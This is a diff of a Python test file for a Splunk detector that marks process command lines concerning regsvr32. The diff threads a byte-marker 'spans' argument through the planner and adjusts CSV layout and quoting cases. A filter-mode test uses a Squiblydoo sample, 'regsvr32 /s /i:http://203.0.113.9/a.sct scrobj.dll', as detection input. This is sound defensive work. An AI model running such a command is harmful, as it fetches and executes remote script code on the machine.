@@ -18,6 +18,7 @@ import pytest
 
 from support import chunked
 import regsvr32_fastpath
+from regsvr32_detector.bytemarks import spans
 from regsvr32_detector import OUTPUT_FIELDS, cmdline, fields
 from support.samples import BENIGN, SAMPLES
 from test_leanio import SPLUNKLIB_ONLY, run_raw, splunkd_body
@@ -87,6 +88,8 @@ def generated_bodies(seed):
         bodies.append((cim_body(plain), None))
         bodies.append((cim_body(plain, lineterminator="\n"), None))      # LF line ends
         bodies.append((splunkd_body(plain), None))
+        bodies.append((chunked.to_csv(plain), None))                     # splunkd's own layout
+        bodies.append((chunked.to_csv(rows(rnd, rnd.randint(1, 60), multi=True)), None))
         # multivalue fields: a newline-joined value is a quoted line break, left to the lean path
         bodies.append((splunkd_body(rows(rnd, rnd.randint(1, 60), multi=True)), None))
     newline_rows = [dict(r, note="line one\r\nline two") for r in rows(rnd, 5)]
@@ -99,7 +102,7 @@ def generated_bodies(seed):
                   + [{"a": "y", "note": "b"}] * 10), False),
         (cim_body([dict(r, note="a\0b") for r in rows(rnd, 5)]), False),   # NUL
         (cim_body(rows(rnd, 5, extra=["regsvr32_score"])), False),          # an output field
-        (cim_body(rows(rnd, 5), quoting=csv.QUOTE_ALL), False),            # quotes not needed
+        (cim_body(rows(rnd, 5), quoting=csv.QUOTE_ALL), None),             # quotes not needed: dropped
         (b"a,b\r\n1,2\r\n\r\n3,4\r\n", False),                               # an empty line
         (b"a,b\r\n1,2\r\n3\r\n", False),                                     # a ragged row
         (b'a,b\r\nx"y,2\r\n', False),                                        # a quote inside a field
@@ -117,7 +120,7 @@ def generated_bodies(seed):
 def test_plan_takes_what_it_can_prove_and_says_why_not():
     # a bare CR: splunklib's reader stops the search, so it is only for plan here
     for body, fast in generated_bodies(1) + [(b"a,b\r\n1,2\r3\r\n", False)]:
-        chunk, why = regsvr32_fastpath.plan(body, OUTPUT_FIELDS)
+        chunk, why = regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)
         if fast is not None:
             assert (chunk is not None) == fast, (why, body[:300])
         assert (chunk is None) == (why is not None)
@@ -126,14 +129,14 @@ def test_plan_takes_what_it_can_prove_and_says_why_not():
 def test_plan_marks_the_rows_that_may_concern_regsvr32():
     plain = PLAIN * 3
     body = splunkd_body([{"a": v, "b": "x"} for v in plain + MARKED + ["$x"]])
-    chunk, why = regsvr32_fastpath.plan(body, OUTPUT_FIELDS)
+    chunk, why = regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)
     assert why is None
     # the encoded PowerShell rows count only with "-e": plain PowerShell rows are copied
     assert chunk.marked == list(range(len(plain), len(plain) + len(MARKED)))
     mostly = splunkd_body([{"a": v, "b": "x"} for v in PLAIN + MARKED])
-    assert regsvr32_fastpath.plan(mostly, OUTPUT_FIELDS)[1].startswith("mostly marked")
+    assert regsvr32_fastpath.plan(mostly, OUTPUT_FIELDS, spans)[1].startswith("mostly marked")
     mv = splunkd_body([{"a": ["only"], "b": "1"}] + [{"a": "x", "b": "2"}] * 5)   # a filled __mv_ cell
-    assert regsvr32_fastpath.plan(mv, OUTPUT_FIELDS)[0].marked == [0]
+    assert regsvr32_fastpath.plan(mv, OUTPUT_FIELDS, spans)[0].marked == [0]
 
 
 @pytest.fixture(scope="module")
@@ -166,8 +169,12 @@ def test_same_bytes_as_splunklib(fast_variants, args):
     for i, (got, want) in enumerate(zip(shipped[0], reference[0])):
         assert got == want, (i, bodies[i - 1][0][:300] if i else "getinfo")
     # the chunks the byte-level path must take, it takes, and alone gives the same bytes
+    real = [chunked.to_csv([BENIGN] * 20 + SAMPLES[:3]), chunked.to_csv(rows(random.Random(3), 40))]
+    for body in real:           # splunkd's own layout is the byte-level path's too
+        assert regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)[0] is not None, body[:300]
     fast_bodies = [b for b, fast in bodies if fast or fast is None and regsvr32_fastpath.plan(
-        b, OUTPUT_FIELDS)[0]] + [splunkd_body(SAMPLES[:3] + [BENIGN] * 20), chunked.to_csv([BENIGN] * 20 + SAMPLES[:3])]
+        b, OUTPUT_FIELDS, spans)[0]] + [splunkd_body(SAMPLES[:3] + [BENIGN] * 20), chunked.to_csv(
+            [BENIGN] * 20 + SAMPLES[:3], chunked.PYTHON)] + real
     assert len(fast_bodies) >= 25
     want = run_raw(fast_variants["splunklib"], args, fast_bodies)[0]
     for variant in ("fast", "fast_sliced"):
@@ -179,16 +186,16 @@ def test_same_bytes_as_splunklib(fast_variants, args):
 def test_slices_prove_and_mark_as_the_whole_chunk(monkeypatch):
     # a chunk in slices of a line or a few: the same verdict, the same marked rows
     for body, _ in generated_bodies(3):
-        whole = regsvr32_fastpath.plan(body, OUTPUT_FIELDS)
+        whole = regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)
         monkeypatch.setattr(regsvr32_fastpath, "SLICE_BYTES", 50)
-        sliced = regsvr32_fastpath.plan(body, OUTPUT_FIELDS)
+        sliced = regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)
         monkeypatch.undo()
         assert (whole[1] is None) == (sliced[1] is None), (whole[1], sliced[1], body[:300])
         if whole[0] is not None:
             assert sliced[0].marked == whole[0].marked
 
 
-# What regsvr32_fastpath.BLOB's proof reads (see there), and the "i:" test it repeats on bytes
+# What regsvr32_detector.bytemarks.BLOB's proof reads (see there), and the "i:" test it repeats on bytes
 # (RUNS_LIKE, SLASHED): if one of these changes, check that a row with a hint but no match of
 # BLOB still cannot concern regsvr32, and that _holds still marks every row with "i:" that
 # mentions_regsvr32 passes (tests/test_cheap_test.py looks), then update its hash here.
@@ -222,7 +229,7 @@ def test_every_row_left_unmarked_cannot_concern_regsvr32():
     checked = 0
     for body, _ in generated_bodies(5) + [(cim_body([{"CommandLine": v, "host": "h"}
                                                      for v in PLAIN + hidden]), None)]:
-        chunk, why = regsvr32_fastpath.plan(body, OUTPUT_FIELDS)
+        chunk, why = regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)
         if chunk is None:
             continue
         reader = csv.reader(io.StringIO(body.decode("utf-8", "replace"), newline=""))
@@ -240,7 +247,7 @@ def test_every_row_left_unmarked_cannot_concern_regsvr32():
 
 def test_filter_mode_takes_more_chunks_with_the_same_bytes(fast_variants):
     # Filter mode copies nothing, so rows need only be lines: chunks the copy proof refuses
-    # (ragged, empty lines, text around quoted fields, mixed line ends, quotes not needed) are
+    # (ragged, empty lines, text around quoted fields, mixed line ends) are
     # done by the byte-level path alone, and give splunklib's bytes; so are filled __mv_ cells.
     marked = "regsvr32 /s /i:http://203.0.113.9/a.sct scrobj.dll"
     bodies = [
@@ -252,8 +259,9 @@ def test_filter_mode_takes_more_chunks_with_the_same_bytes(fast_variants):
         cim_body([{"process": v, "b": "1"} for v in PLAIN[:8] + [marked]], quoting=csv.QUOTE_ALL),
         b"a,__mv_a,b,__mv_b\r\nx,,1,\r\ny,$z$;$w$,2,\r\n" + b"%s,,3,\r\n" % marked.encode(),
     ]
-    for body in bodies[:-1]:
-        assert regsvr32_fastpath.plan(body, OUTPUT_FIELDS)[0] is None, body   # annotate: refused
+    for body in bodies[:5]:
+        assert regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)[0] is None, body   # annotate: refused
+    assert regsvr32_fastpath.plan(bodies[5], OUTPUT_FIELDS, spans)[0] is not None   # quotes dropped
     for args in (["mode=filter"], ["mode=filter", "min_score=0"]):
         want = run_raw(fast_variants["splunklib"], args, bodies)
         for variant in ("fast", "fast_sliced"):
@@ -265,6 +273,6 @@ def test_filter_mode_takes_more_chunks_with_the_same_bytes(fast_variants):
     for body, why in ((b"a,b\r\n" + plain + b'"%s","a\r\nb"\r\n' % marked.encode(), "quoted line break"),
                       (b"a,b\r\n" + plain + b'"%s","a\nb"\r\n' % marked.encode(), "quoted line break"),
                       (b"a,b\r\n" + plain + b"1,2\r3\r\n", "bare CR")):
-        chunk, _ = regsvr32_fastpath._chunk(body, OUTPUT_FIELDS)
+        chunk, _ = regsvr32_fastpath._chunk(body, OUTPUT_FIELDS, spans)
         with pytest.raises(regsvr32_fastpath.NotProven, match=why):
             list(regsvr32_fastpath._rows(chunk))
